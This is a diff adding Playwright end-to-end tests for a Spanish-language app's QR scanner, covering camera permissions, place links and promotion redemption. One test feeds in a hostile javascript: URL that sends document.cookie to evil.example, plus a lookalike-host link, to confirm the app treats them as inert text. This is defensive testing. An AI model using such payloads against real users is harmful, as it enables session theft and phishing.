@@ -1,0 +1,199 @@
+import { publicUrl } from '@callejero/contract/public-url.ts';
+import type { RedemptionTicket } from '@callejero/contract/resources/redemptions.ts';
+import { expect, type Page } from '@playwright/test';
+import { renderSVG } from 'uqr';
+import { newPerson, post } from '../support/accounts.ts';
+import type { Api } from '../support/api.ts';
+import { accessible } from '../support/axe.ts';
+import { answer, dialog, toast } from '../support/backoffice.ts';
+import type { SignedIn, Site } from '../support/environment.ts';
+import { camerasOn, openScanner } from '../support/scanner.ts';
+import { test } from '../support/test.ts';
+
+// Each has a browser of its own, whose camera sees what the journey wants.
+test.describe.configure({ timeout: 150_000 });
+
+const aiming = (page: Page) => page.getByText('Apunta la cámara a un código QR');
+async function typeCode(page: Page, text: string) {
+  await page.getByRole('button', { name: 'Escribir el código' }).click();
+  const asked = dialog(page, 'Escribir el código');
+  await asked.getByRole('textbox', { name: 'Código o dirección' }).fill(text);
+  await asked.getByRole('textbox', { name: 'Código o dirección' }).press('Enter');
+}
+
+test('the printed code of a place leads to the place, without a byte from elsewhere @phone', async ({
+  site,
+  api,
+}) => {
+  const place = await api.newCommerce(`Fonda ${Date.now().toString(36)}`);
+  const text = publicUrl({ kind: 'commerce', slug: place.slug }, site.url);
+  const seeing = { text, allowed: true, unreachable: /\.wasm$/ };
+  const { page, context, asked, close } = await openScanner(site, seeing);
+  // What reads the code did not arrive; nobody else's server is asked for it.
+  await expect(page.getByRole('alert')).toContainText('No se pudo abrir el escáner');
+  expect(await camerasOn(page)).toBe(0);
+  await context.unrouteAll();
+  await page.getByRole('button', { name: 'Reintentar' }).click();
+  await expect(page).toHaveURL(`${site.url}/place/${place.id}`);
+  await expect(page.getByRole('heading', { name: place.name })).toBeVisible();
+  expect(asked.some((url) => url.endsWith('.wasm'))).toBe(true);
+  expect(asked.filter((url) => !/^(?:blob|data):/.test(url) && new URL(url).origin !== site.url)).toEqual([]);
+  await expect.poll(() => camerasOn(page)).toBe(0);
+  await close();
+});
+
+test('a hostile code is only text; a link is opened after its host was read and confirmed @phone', async ({
+  site,
+}) => {
+  const hostile = `javascript:location='https://evil.example/'+alert(document.cookie)//${site.url}/c/cafe`;
+  const { page, context, close } = await openScanner(site, { text: hostile, allowed: true });
+  await expect(page.getByRole('heading', { name: 'Esto dice el código' })).toBeFocused();
+  await expect(page.getByText(hostile)).toBeVisible();
+  await expect(page.locator('.ion-page:not(.ion-page-hidden) main a, .scan-found a')).toHaveCount(0);
+  await expect(page.getByRole('button', { name: 'Abrir enlace' })).toHaveCount(0);
+  expect(page.url()).toBe(`${site.url}/qr-scan`);
+  await expect.poll(() => camerasOn(page)).toBe(0);
+  await accessible(page, 'text');
+
+  // From a picture: a link to a host that looks like ours.
+  const other = await context.newPage();
+  const link = `${site.url}.evil.example/c/cafe`.replace(/:\d+/, '');
+  await other.setContent(`<div style="width:400px">${renderSVG(link)}</div>`);
+  const picture = await other.screenshot();
+  await other.close();
+  await page.getByRole('button', { name: 'Escanear otro' }).click();
+  // The camera still sees the hostile code: without it the picture is read alone.
+  await expect(page.getByRole('heading', { name: 'Esto dice el código' })).toBeVisible();
+  await context.clearPermissions();
+  await page.reload();
+  await dialog(page, 'Es necesario habilitar los permisos de camara!')
+    .getByRole('button', { name: 'Habilitar' })
+    .click();
+  await page
+    .locator('input[type=file]')
+    .setInputFiles({ name: 'cartel.png', mimeType: 'image/png', buffer: picture });
+  await expect(page.getByRole('heading', { name: 'Es un enlace a otro sitio' })).toBeVisible();
+  await expect(page.getByText('localhost.evil.example', { exact: true })).toBeVisible();
+  await context.route(/evil\.example/, (route) => route.fulfill({ body: 'otro sitio' }));
+  const open = page.getByRole('button', { name: 'Abrir enlace' });
+  await open.click();
+  await answer(page, '¿Abrir localhost.evil.example?', 'No');
+  expect(context.pages()).toHaveLength(1);
+  await open.click();
+  const [opened] = await Promise.all([
+    context.waitForEvent('page'),
+    answer(page, '¿Abrir localhost.evil.example?', 'Si'),
+  ]);
+  await expect(opened).toHaveURL(link);
+  expect(await opened.evaluate(() => window.opener === null)).toBe(true);
+  expect(page.url()).toBe(`${site.url}/qr-scan`);
+
+  // What is no picture says so.
+  await page.getByRole('button', { name: 'Escanear otro' }).click();
+  await dialog(page, 'Es necesario habilitar los permisos de camara!')
+    .getByRole('button', { name: 'Habilitar' })
+    .click();
+  await page
+    .locator('input[type=file]')
+    .setInputFiles({ name: 'nota.png', mimeType: 'image/png', buffer: Buffer.from('no es una imagen') });
+  await expect(toast(page, 'No se pudo leer la imagen')).toBeVisible();
+  await close();
+});
+
+test('who refuses the camera is asked once, told what to do, and scans as soon as it is allowed @phone', async ({
+  site,
+}) => {
+  const { page, allow, close } = await openScanner(site, { text: null, allowed: false });
+  const question = dialog(page, 'Es necesario habilitar los permisos de camara!');
+  await question.getByRole('button', { name: 'Cancelar' }).click();
+  await expect(page).toHaveURL(`${site.url}/map`);
+
+  await page.goto('/qr-scan');
+  await question.getByRole('button', { name: 'Habilitar' }).click();
+  await expect(question).toBeHidden();
+  const told = page.getByRole('alert');
+  await expect(told).toContainText('permite la cámara');
+  await accessible(page, 'refused');
+  await told.getByRole('button', { name: 'Reintentar' }).click();
+  await expect(told).toBeVisible();
+  await expect(question).toBeHidden();
+
+  await allow();
+  await expect(aiming(page)).toBeVisible();
+  expect(await camerasOn(page)).toBe(1);
+  await accessible(page, 'viewfinder');
+  await page.getByRole('button', { name: 'Escribir el código' }).press('Enter');
+  const typing = dialog(page, 'Escribir el código');
+  await expect.poll(() => camerasOn(page)).toBe(0);
+  await typing.getByRole('button', { name: 'Continuar' }).press('Enter');
+  await expect(typing.getByText('Escribe el código.')).toBeVisible();
+  await typing.getByRole('button', { name: 'Cerrar' }).press('Enter');
+  await expect(aiming(page)).toBeVisible();
+  await page.getByRole('button', { name: 'Volver' }).click();
+  await expect(page).toHaveURL(`${site.url}/map`);
+  await expect.poll(() => camerasOn(page)).toBe(0);
+  await close();
+});
+
+const day = 24 * 60 * 60 * 1000;
+
+function ticketOf(site: Site, { login }: SignedIn, promotion: string): Promise<RedemptionTicket> {
+  return post(site, `/promotions/${promotion}/redemptions`, {}, login.accessToken);
+}
+
+async function publishedPromotion(site: Site, api: Api, commerce: string, title: string) {
+  const discount = await api.discount({ name: `De ${title}`, type: 'percentage', value: 50 });
+  const { id, rev } = await api.promotion({
+    commerce,
+    title,
+    terms: 'Una por persona.',
+    discount: discount.id,
+    startsAt: new Date(Date.now() - day).toISOString(),
+    endsAt: new Date(Date.now() + day).toISOString(),
+    mode: 'scan',
+  });
+  const { accessToken } = site.administrator.login;
+  await post(site, `/promotions/${id}/status`, { status: 'published', rev }, accessToken);
+  return { id, title };
+}
+
+test('at the counter a code is looked at, confirmed and redeemed once, by whose promotion it is @phone', async ({
+  site,
+  api,
+}) => {
+  const mark = Date.now().toString(36);
+  const place = await api.newCommerce(`Nevería ${mark}`);
+  const owner = await newPerson(site);
+  await api.changeCommerce(place, { owners: [owner.login.user.id] });
+  const promotion = await publishedPromotion(site, api, place.id, `Nieve de limón ${mark}`);
+  const person = await newPerson(site);
+
+  const counter = await openScanner(site, { text: null, allowed: true, person: owner });
+  const { page } = counter;
+  await expect(aiming(page)).toBeVisible();
+  const { url } = await ticketOf(site, person, promotion.id);
+  await typeCode(page, url ?? '');
+  await expect(page.getByRole('heading', { name: promotion.title })).toBeFocused();
+  await expect(page.getByText('Alma', { exact: true })).toBeVisible();
+  await expect(page.getByText(place.name, { exact: true })).toBeVisible();
+  await accessible(page, 'question');
+  await page.getByRole('button', { name: 'Canjear ahora' }).click();
+  await expect(page.getByRole('heading', { name: 'Canjeado' })).toBeFocused();
+  await accessible(page, 'redeemed');
+  const done = await api.find<{ status: string }>('redemptions', { promotion: promotion.id });
+  expect(done.map(({ status }) => status)).toEqual(['redeemed']);
+
+  await page.getByRole('button', { name: 'Escanear otro' }).click();
+  await typeCode(page, url ?? '');
+  await expect(page.getByRole('heading', { name: 'No se puede canjear' })).toBeFocused();
+  await expect(page.getByRole('alert')).toContainText(/ya se canjeó|caducó/);
+  await counter.close();
+
+  const passerBy = await openScanner(site, { text: null, allowed: true });
+  const another = await ticketOf(site, await newPerson(site), promotion.id);
+  await typeCode(passerBy.page, another.url ?? '');
+  await expect(
+    passerBy.page.getByRole('heading', { name: 'Muestra este código en el comercio' }),
+  ).toBeFocused();
+  await passerBy.close();
+});
